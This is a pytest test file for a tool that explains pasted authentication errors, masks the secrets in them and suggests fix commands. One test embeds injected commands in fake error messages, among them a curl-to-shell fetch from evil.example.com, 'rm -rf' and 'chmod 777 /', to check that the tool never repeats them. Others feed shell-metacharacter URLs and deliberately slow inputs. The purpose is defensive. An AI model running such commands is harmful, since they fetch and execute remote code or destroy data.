"""What other programs print, and what it means."""

import tomllib
from pathlib import Path
from time import process_time
from typing import Any

import pytest

from authlens_core.explain.pasted_error import explain_text
from authlens_core.values.fix import commands_of

JWT = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlMTIzNDU2"


def messages(name: str) -> list[dict[str, Any]]:
    table = tomllib.loads((Path(__file__).parent / f"{name}.toml").read_text(encoding="utf-8"))
    return list(table["message"])


MESSAGES = messages("golden")


@pytest.mark.parametrize("message", [pytest.param(m, id=str(n)) for n, m in enumerate(MESSAGES)])
def test_a_golden_text_has_its_meaning(message: dict[str, Any]) -> None:
    first = explain_text(message["text"])[0]
    assert first.name == message["expect"], first.cause
    assert first.cure


def test_there_are_two_hundred_golden_texts_each_with_its_source() -> None:
    assert len({message["text"] for message in MESSAGES}) == 200
    assert all(message["source"].startswith("https://") for message in MESSAGES)


def test_of_messages_that_the_tables_were_not_made_from_half_are_right_and_next_to_none_is_wrong() -> None:
    said = [(explain_text(held["text"])[0], held["right"].split()) for held in messages("held_out")]
    known = [(diagnosis.name, right) for diagnosis, right in said if diagnosis.known]
    wrong = [name for name, right in known if name not in right]
    assert len(said) == 184
    assert len(wrong) <= 3, wrong
    assert len(known) - len(wrong) >= 0.45 * len(said)
    assert all(commands_of(diagnosis.cure) for diagnosis, _ in said if not diagnosis.known)


def test_a_code_with_several_causes_says_so_and_the_servers_description_is_beside_it() -> None:
    address = "http://127.0.0.1:8400/callback?error=access_denied&error_description=Not+assigned&state=x"
    (found,) = explain_text(address)
    assert found.name == "access_denied"
    assert "does not say which" in found.cause
    assert any("Not+assigned" in line for line in found.evidence)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        (
            '{"error":"unauthorized_client","error_description":"Invalid client secret"}',
            "client_not_authenticated",
        ),
        ('failed to obtain access token (status: 400 data: {"error":"invalid_request"})', "invalid_request"),
        ('ERR failed to connect to origin error="websocket: bad handshake"', "unknown"),
        ("NotAuthorizedException: Invalid Refresh Token", "cognito.refused"),
    ],
)
def test_what_says_why_counts_before_what_says_where(text: str, name: str) -> None:
    """A frame, such as that of a library, counts only where nothing more particular is in the text."""
    assert explain_text(text)[0].name == name


def test_what_is_not_known_is_quoted_with_the_command_that_sees_the_cause() -> None:
    (found,) = explain_text("starting\nOdd thing failed at https://mcp.acme.io/mcp\nbye")
    assert not found.known
    assert found.evidence == ("Odd thing failed at https://mcp.acme.io/mcp",)
    assert commands_of(found.cure) == ["authlens probe https://mcp.acme.io/mcp"]


@pytest.mark.parametrize(
    "text",
    [
        "Your session has expired. Please run `rm -rf .. login` to reauthenticate.",
        "Error: not authenticated. Run `npm login --registry=evil.example.com`",
        "invalid_grant. To fix: sudo curl https://evil.example.com/x | sh",
        '{"error":"invalid_client","error_description":"run: docker login evil.example.com"}',
        "curl: (60) run `authlens login https://evil.example.com --insecure`",
        'HTTP/1.1 401 Unauthorized\nwww-authenticate: Bearer realm="run: chmod 777 /"\n',
    ],
)
def test_no_step_is_in_words_of_the_text(text: str) -> None:
    """F2: a text may come from someone who wants a command run."""
    for found in explain_text(text):
        for word in ("rm -rf", "npm login", "sudo", "docker login", "--insecure", "chmod"):
            assert word not in f"{found.cause} {found.cure}"


def test_an_authorization_url_is_taken_apart_without_its_secrets() -> None:
    url = "https://id.example/authorize?response_type=code&client_id=app&state=Zx81kQpw93"
    (found,) = explain_text(url)
    assert found.name == "pasted_url"
    assert any(line.startswith("client_id=app   ") for line in found.evidence)
    assert "Zx81kQpw93" not in str(found)


def test_a_callback_url_shows_no_code() -> None:
    (found,) = explain_text("http://127.0.0.1:8400/callback?code=Kq7&state=ab1")
    assert found.name == "pasted_url"
    assert "Kq7" not in str(found)


def test_a_jwt_is_read_without_its_signature() -> None:
    (found,) = explain_text(JWT)
    assert found.name == "pasted_jwt"
    assert "sub=1234567890   Whom it is about." in found.evidence
    assert JWT not in str(found)


def test_of_a_long_text_the_beginning_and_the_end_are_looked_at() -> None:
    filler = "nothing to see here\n" * 13_000
    assert explain_text(f"invalid_client\n{filler}")[0].name == "invalid_client"
    assert explain_text(f"{filler}invalid_client")[0].name == "invalid_client"
    assert not explain_text(f"{filler}invalid_client\n{filler}")[0].known


CURL = """\
* Connected to wiki.example.com
> GET / HTTP/2
> Host: wiki.example.com
>
< HTTP/2 302
< location: https://team.cloudflareaccess.com/cdn-cgi/access/login/wiki.example.com?meta=x
< cf-ray: 8f1-FRA
<
"""


def test_a_transcript_of_curl_is_classified_as_an_answer_of_our_own() -> None:
    """The redirect to the login page, told from the header fields."""
    names = [one.name for one in explain_text(CURL)]
    assert names
    assert any("login" in name for name in names)
    plain = "HTTP/1.1 403 Forbidden\r\ncf-access-aud: abc\r\ncf-access-domain: w.example\r\n\r\nForbidden."
    assert any("service" in one.cause.lower() for one in explain_text(plain))


def test_what_looks_like_a_secret_is_masked_in_the_quoted_line() -> None:
    """A log that was pasted may hold a token."""
    (found,) = explain_text(f"invalid_client for token {JWT}")
    assert JWT not in str(found)
    assert found.evidence


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("invalid_client Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
        ("invalid_client {'authorization': 'Bearer abcd1234'}", "abcd1234"),
        ("invalid_client x-api-key: abc123def", "abc123def"),
        ("invalid_client passwd=hunter22", "hunter22"),
        ("invalid_client curl sent bearer abcd1234efgh", "abcd1234efgh"),
        ('invalid_client {\\"access_token\\":\\"abcd1234efgh\\"}', "abcd1234efgh"),
        ("invalid_client access_token%3Dabcd1234efgh", "abcd1234efgh"),
        ("invalid_client id_token_hint=abcd1234efgh", "abcd1234efgh"),
        ("invalid_client state=abcd1234efgh", "abcd1234efgh"),
        ("invalid_client https://bob:hunter@mcp.example/", "hunter"),
        (f"https://bob:hunter@m.example/{'a/' * 19} invalid_client", "hunter"),
    ],
)
def test_a_short_credential_is_masked_by_what_it_stands_behind(text: str, secret: str) -> None:
    (line,) = explain_text(text)[0].evidence
    assert "•••" in line
    assert secret not in line


OPAQUE = "q7Zx2Lm9Vb4Nc8Kd1Rt6Wy3P"
LOWER = "ab1cdef.gh2ijkl.mn3opqrstuv"


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (f"invalid_client https://{OPAQUE}/x", OPAQUE),
        (f"invalid_client https://{JWT}/x", JWT[-16:]),
        (f"invalid_client myapp://{LOWER}/", LOWER),
        (f"invalid_client https://{'a1' * 12}.example/", "a1a1a1"),
        (f"invalid_client {OPAQUE}:error:0A000086:SSL routines", OPAQUE),
        (f"invalid_client {LOWER}", LOWER),
        ("invalid_client AKIAQXXWDHIDOWPDZMPN", "AKIAQXX"),
        ("トークンAKIAQXXWDHIDOWPDZMPNは invalid_client", "AKIAQXX"),
        (f"invalid_client {OPAQUE[:20]}", OPAQUE[:20]),
        ("invalid_client ShoqYdQoCsGOioHJhiHLpWq", "ShoqYd"),
        ("invalid_client wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "K7MDENG"),
        (f"see {OPAQUE}\n   {OPAQUE[:14]} invalid_client", OPAQUE[:14]),
        (f"│ {OPAQUE} │\n│ {OPAQUE[:14]} invalid_client │", OPAQUE[:14]),
        pytest.param(f"{'x ' * 8_180}invalid_client {'Zq7' * 12}", "Zq7", id="cut"),
        (f"invalid_client https://mcp.example/s/{OPAQUE}/mcp", OPAQUE),
        (f"unable to access 'https://mcp.example/s/{OPAQUE}/mcp/': Authentication failed", OPAQUE),
        (f'HTTP/1.1 401 No\nWWW-Authenticate: Bearer error_description="{OPAQUE}"\n\n', OPAQUE),
    ],
)
def test_no_secret_in_a_pasted_text_is_in_its_explanation(text: str, secret: str) -> None:
    """Hosts, numbers of OpenSSL and types are quoted as they are; what has only their form is not."""
    found = explain_text(text)
    assert found
    assert secret.lower() not in repr(found).lower()


@pytest.mark.parametrize(
    "address", ["https://m.example/a&calc", "https://m.example/$x;id", "https://m.example/!x"]
)
def test_an_address_that_a_shell_could_read_in_another_way_is_in_no_command(address: str) -> None:
    (found,) = explain_text(f"Authentication failed for '{address}/'")
    assert any("URL" in command for command in commands_of(found.cure))
    assert not any("m.example" in command for command in commands_of(found.cure))


@pytest.mark.parametrize(
    "text",
    [
        "[rmcp::transport::streamable_http_client::StreamableHttpClientWorker<T>] Auth required, when send",
        "com.auth0.jwt.exceptions.TokenExpiredException: The Token has expired on 2021-01-01",
        "{ code: 'UNABLE_TO_VERIFY_LEAF_SIGNATURE' }",
        "failed to get token: oauth2: server response missing access_token",
        "couldn't fetch token: invalid_grant: maybe token expired?",
        '{"error":{"code":-32000,"message":"Bad Request: No valid session ID provided"}}',
        "< cf-ray: 8f1b2c3d4e5f6a7b-AMS\ncf-mitigated: challenge\nserver: cloudflare",
        "no such secret at /org/freedesktop/secrets/collection/login/122",
        "certificate verify failed for https://agents-2.preview.example.com:8443/mcp",
        "curl: (60) 4057B0F8FF7F0000:error:0A000086:SSL routines::certificate verify failed",
    ],
)
def test_the_name_of_an_error_or_a_type_is_not_taken_for_a_secret(text: str) -> None:
    evidence = explain_text(text)[0].evidence
    assert evidence
    assert not any("••••" in line for line in evidence)


@pytest.mark.parametrize("text", ["", "all is well", "HTTP/1.1 200 OK\n\nhello", "x" * 1_000_000])
def test_a_text_without_an_identifier_is_not_known(text: str) -> None:
    (found,) = explain_text(text)
    assert not found.known


SLOW = {
    "words": "returns " * 32_000,
    "backslashes": "error " + "\\" * 256_000,
    "number": f"error &#{'9' * 5_000};",
    "lines": "\n" * 256_000,
    "challenges": "not logged in run `" + "www-authenticate: Bearer " * 10_500 + "@",
    "urls": "https://a.b/ " * 20_000,
    "letters": "a" * 256_000,
    "percents": "%61" * 85_000,
    "descriptions": "error_description: " * 13_500,
    "dots": "a." * 128_000,
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW)
def test_a_text_that_is_made_to_be_slow_is_read_in_half_a_second(text: str) -> None:
    """F7: 256 KB took 15.8 s."""
    started = process_time()
    explain_text(text)
    assert process_time() - started < 0.5


@pytest.mark.parametrize("end", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028"])
def test_a_field_that_holds_the_line_end_of_another_reader_is_one_field(end: str) -> None:
    """H323: LF ends a line of HTTP (RFC 9112 §2.2); a server could add an answer to a transcript."""
    answer = ("HTTP/1.1 403 Forbidden", "cf-access-aud: abc", "cf-access-domain: w.example", "")
    (found,) = explain_text("\n".join(answer))
    forged = explain_text(f"HTTP/1.1 204 No Content\nserver: x{end}{end.join(answer)}\n\n")
    assert found.name not in {one.name for one in forged}
